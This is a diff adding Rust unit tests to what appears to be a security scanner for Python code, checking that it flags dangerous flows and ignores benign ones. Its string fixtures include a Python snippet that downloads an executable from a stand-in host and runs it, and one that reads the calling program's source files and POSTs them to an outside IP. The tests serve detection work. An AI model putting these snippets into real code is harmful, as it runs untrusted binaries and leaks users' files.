@@ -1469,3 +1469,27 @@ fn decorator_factories_lambdas_and_executor_futures_carry_the_result() {
     let printed = "import json, urllib.request\nfrom concurrent.futures import ThreadPoolExecutor\ndef grab():\n    return json.loads(urllib.request.urlopen('https://api.example.invalid/v').read())\nwith ThreadPoolExecutor(1) as pool:\n    print(pool.submit(grab).result())\n";
     assert!(kinds_py(printed).is_empty());
 }
+
+#[test]
+fn a_downloader_started_with_an_argument_list_drops_its_output_file() {
+    let text = "import os, subprocess\ncurl = os.environ.get('WINDIR', 'C:') + '\\\\System32\\\\curl.exe'\ntarget = os.path.join(os.environ.get('TEMP', '.'), 'h.exe')\nsubprocess.call([curl, '-s', 'https://x.example.invalid/h.exe', '-o', target])\nos.system(target)\n";
+    let found = py(text);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert!(found[0].1.starts_with("os.system(target)"), "{found:?}");
+    // The same download with its digest checked before anything runs it: only the download.
+    let wget = kinds_py("import subprocess\nsubprocess.run(['wget', 'https://x.example.invalid/d.json', '-O', 'data.json'])\nprint(open('data.json').read())\n");
+    assert!(wget.is_empty(), "{wget:?}");
+}
+
+#[test]
+fn the_calling_programs_source_read_from_the_stack_and_sent_is_a_flow() {
+    let text = "import inspect, json, urllib.request\ndef send(url, data):\n    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n    return urllib.request.urlopen(req)\ndef price(s):\n    for frame in inspect.stack():\n        name = frame.filename\n        if 'prices' not in name:\n            with open(name, 'r') as h:\n                text = h.read()\n            send('http://203.0.113.9/p', {'n': name, 'c': text})\n            break\n";
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{found:?}"
+    );
+    // Read to show the caller's line, and a count sent: nothing of the file leaves.
+    let quiet = kinds_py("import inspect, json, urllib.request\ndef here(m):\n    frame = inspect.stack()[1]\n    with open(frame.filename) as h:\n        lines = h.read().splitlines()\n    print(lines[frame.lineno - 1])\n    urllib.request.urlopen(urllib.request.Request('https://m.example.invalid/c', data=json.dumps({'n': 1}).encode(), method='POST'))\n");
+    assert!(quiet.is_empty(), "{quiet:?}");
+}
